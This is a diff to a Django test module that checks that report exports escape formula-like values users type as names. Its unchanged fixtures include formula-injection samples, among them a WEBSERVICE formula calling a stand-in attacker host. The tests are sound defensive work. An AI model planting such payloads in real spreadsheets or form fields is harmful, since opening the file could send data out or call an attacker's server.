@@ -3,6 +3,7 @@
 What people may have typed as names and titles is made to look like formulas, commands and links.
 """
 
+import re
 from collections.abc import Iterator
 from datetime import date
 from pathlib import Path
@@ -18,6 +19,7 @@ from django.utils.translation import override
 from lessons.models import SkillText
 from portal.accounts.models import OrganisationText, Region, RegionText, User
 from portal.reports.counts.counting import update
+from portal.reports.public.publishing import publish
 from quizzes.models import Learner
 from tests.browser.examples import routes
 from tests.factories import (
@@ -45,7 +47,13 @@ BAD = {
     "organisation": "-2+3",
     "region": '=WEBSERVICE("https://evil.example")',
 }
-ARGUMENTS: dict[str, dict[str, str]] = {"analysis:questions_csv": {"course": "first-aid"}}
+MONTH = date(2026, 2, 1)
+ARGUMENTS: dict[str, dict[str, Any]] = {
+    "analysis:questions_csv": {"course": "first-aid"},
+    "statistics:csv": {"month": MONTH},
+    "statistics:xlsx": {"month": MONTH},
+}
+LISTS = [(name, kind) for name in ("overdue", "due-soon", "expiring") for kind in ("csv", "xlsx")]
 ASKED: dict[str, tuple[str, ...]] = {  # what of a report besides what it shows by itself
     "reports:completion": ("", "by=organisation", "by=region", "by=month"),
     "reports:learned": ("", "by=skill"),
@@ -82,6 +90,7 @@ def furnish() -> None:
     learner = Learner.objects.create(user=user)
     ProgressEventFactory(learner=learner, edition=edition, lesson=lesson, verb="passed", day=date(2026, 2, 1))
     update()
+    assert list(publish())
 
 
 def write_all(folder: Path) -> list[Path]:
@@ -94,10 +103,11 @@ def write_all(folder: Path) -> list[Path]:
 
 
 def _written(client: Client, folder: Path, language: str) -> Iterator[Path]:
-    for name in exports():
-        with override(language):
-            address = reverse(name, kwargs=ARGUMENTS.get(name))
-        report, _underscore, kind = name.rpartition("_")
+    with override(language):
+        found = [(name, reverse(name, kwargs=ARGUMENTS.get(name))) for name in exports()]
+        lists = [(f"{name}_{kind}", reverse("reports:people_file", args=[name, kind])) for name, kind in LISTS]
+    for name, address in (*found, *lists):
+        report, kind = re.split(r"[_:](?=csv$|xlsx$)", name)
         for number, asked in enumerate(ASKED.get(report, ("",))):
             response = client.get(f"{address}?{asked}")
             assert response.status_code == 200, address
@@ -133,7 +143,8 @@ def test_a_cell_written_as_it_is_would_be_worked_out(control: Sheet) -> None:
 
 def test_every_export_is_opened(sheets: dict[str, Sheet]) -> None:
     assert len(sheets) >= 2 * len(exports())
-    assert [name for name, sheet in sheets.items() if not all(sheet.rows[0])] == []
+    heads = {name: " ".join(sheet.rows[0]).rstrip() for name, sheet in sheets.items()}
+    assert {name: head for name, head in heads.items() if not head or "  " in head} == {}
 
 
 def test_no_export_has_a_formula(sheets: dict[str, Sheet]) -> None:
